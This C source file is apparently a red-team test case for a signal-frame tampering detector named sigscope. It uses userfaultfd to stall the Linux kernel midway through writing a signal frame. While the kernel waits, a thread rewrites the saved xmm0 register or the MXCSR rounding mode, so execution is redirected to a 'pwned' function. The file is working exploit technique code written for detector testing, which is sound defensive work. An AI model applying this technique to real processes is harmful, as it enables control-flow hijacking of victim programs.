/* SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause */
/*
 * srop_fp_uffd_stall (red team round 20): the FP area's baseline poisoned while the kernel is
 * still writing the frame. get_sigframe() writes the FP area first (copy_fpstate_to_sigframe)
 * and the rest of the frame after, with faults allowed. The sigaltstack is laid out so that the
 * FP area lies on a present page and the rt_sigframe below it on a page registered with
 * userfaultfd and never touched: the kernel sleeps in the middle of the frame. The fault's
 * handler thread (standing in for the attacker's write primitive) rewrites xmm0 in the area the
 * kernel has already written, then lets the page in. Whatever reads the area "right after the
 * kernel wrote it" reads the attacker's. The interrupted code calls through xmm0.
 *
 * Why: the window between the kernel's write of the area and the handler's start is not a few
 * microseconds when the frame's writing can be made to sleep: it is as long as the attacker
 * likes, and deterministic.
 *
 * srop_fp_uffd_mxcsr (red team round 24, idea 5) is this program built with STALL_MXCSR: the
 * write while the kernel sleeps moves MXCSR's rounding to round-up instead, and 2.4 converts to
 * the table index 3, the attacker's entry.
 *
 * Expected from sigscope: tampered_context (high, changed fpstate): the thread slept on the
 * way, the kernel's own copy of its registers and control words (saved when it left the CPU)
 * disagrees with the area, so no baseline is kept and the sigreturn fails closed. Root:
 * userfaultfd on kernel faults (exit 77 where it is refused).
 */
#include "mal.h"

#ifndef STALL_MXCSR
#define STALL_NAME "srop_fp_uffd_stall"
#endif

#include <cpuid.h>
#include <linux/userfaultfd.h>
#include <poll.h>
#include <pthread.h>
#include <sys/ioctl.h>

static volatile int delivered;
static long uffd = -1;
static char *lower;
static uintptr_t area;
static pid_t main_tid;

static __attribute__((noinline)) void benign(void)
{
	__asm__ volatile("");
}

static void (*const table[4])(void) = {benign, benign, benign, (void (*)(void))mal_pwned};

static void handler(int sig, siginfo_t *info, void *ucv)
{
	(void)sig;
	(void)info;
	(void)ucv;
	delivered = 1;
}

/* The kernel sleeps on the frame's page, the area above it written: rewrite xmm0, let it go. */
static void *fault_thread(void *arg)
{
	static char zero[4096] __attribute__((aligned(4096)));
	struct pollfd p = {.fd = (int)uffd, .events = POLLIN};
	struct uffd_msg msg;
	struct uffdio_copy copy = {.dst = 0, .src = (uintptr_t)zero, .len = 4096};

	(void)arg;
	if (poll(&p, 1, 5000) != 1 || read((int)uffd, &msg, sizeof(msg)) != sizeof(msg))
		mal_die(MAL_EXIT_SETUP, "userfaultfd read");
#ifdef STALL_MXCSR
	*(volatile uint32_t *)(area + 24) =
	    (*(volatile uint32_t *)(area + 24) & ~0x6000u) | 0x4000u;
#else
	*(volatile uint64_t *)(area + 160) = (uint64_t)(uintptr_t)mal_pwned; /* xmm0 */
#endif
	copy.dst = (uintptr_t)lower;
	if (ioctl((int)uffd, UFFDIO_COPY, &copy))
		mal_die(MAL_EXIT_SETUP, "UFFDIO_COPY");
	return NULL;
}

static void *kicker(void *arg)
{
	struct timespec ts = {0, 100 * 1000 * 1000};

	(void)arg;
	nanosleep(&ts, NULL);
	if (syscall(SYS_tgkill, getpid(), main_tid, SIGUSR1))
		mal_die(MAL_EXIT_SETUP, "tgkill");
	return NULL;
}

int main(void)
{
	unsigned int a, b, c, d, xs;
	struct uffdio_api api = {.api = UFFD_API};
	struct uffdio_register reg = {.mode = UFFDIO_REGISTER_MODE_MISSING};
	pthread_t t1, t2;
	stack_t ss;
	uintptr_t top;
	char *base;
	long idx;

	mal_init(STALL_NAME, 10);
	__cpuid_count(0xd, 0, a, b, c, d);
	xs = b + 4; /* the kernel's xstate sigframe size: the area and FP_XSTATE_MAGIC2 */
	(void)a;
	(void)c;
	(void)d;
	base = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (base == MAP_FAILED)
		mal_die(MAL_EXIT_SETUP, "mmap");
	lower = base;
	memset(base + 4096, 0, 4096); /* the upper page is present: the area goes there */
	top = (uintptr_t)base + 4096 + ((xs + 63) & ~63u) + 64;
	area = (top - xs) & ~63UL; /* fpu__alloc_mathframe() */
	uffd = syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
	if (uffd < 0 || ioctl((int)uffd, UFFDIO_API, &api)) {
		mal_say("skip: userfaultfd refused: %s", strerror(errno));
		return MAL_EXIT_SKIP;
	}
	reg.range.start = (uintptr_t)lower;
	reg.range.len = 4096;
	if (ioctl((int)uffd, UFFDIO_REGISTER, &reg))
		mal_die(MAL_EXIT_SETUP, "UFFDIO_REGISTER");
	/* The frames go on this altstack (it replaces the crash handler's: same role). */
	ss.ss_sp = base;
	ss.ss_size = top - (uintptr_t)base;
	ss.ss_flags = 0;
	if (sigaltstack(&ss, NULL))
		mal_die(MAL_EXIT_SETUP, "sigaltstack");
	mal_handle(SIGUSR1, handler, SA_ONSTACK);
	main_tid = (pid_t)syscall(SYS_gettid);
	if (pthread_create(&t1, NULL, fault_thread, NULL) ||
	    pthread_create(&t2, NULL, kicker, NULL))
		mal_die(MAL_EXIT_SETUP, "pthread_create");
	/* xmm0 holds benign while the signal comes; the call goes through it after. */
	__asm__ volatile("movq %[fn], %%xmm0\n\t"
			 "1: cmpl $0, %[flag]\n\t"
			 "je 1b\n\t"
			 "movq %%xmm0, %%rax\n\t"
			 "call *%%rax\n\t"
			 :
			 : [fn] "r"((uint64_t)(uintptr_t)benign), [flag] "m"(delivered)
			 : "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "xmm0",
			   "memory");
	/* 2.4 to an index: 2 under the saved rounding (to nearest), 3 rounded up. */
	__asm__ volatile("cvtsd2si %1, %0" : "=r"(idx) : "x"(2.4));
	table[idx & 3]();
	pthread_join(t1, NULL);
	pthread_join(t2, NULL);
	mal_say("the calls through xmm0 and the table went where they were meant to");
	return MAL_EXIT_NOTHING;
}
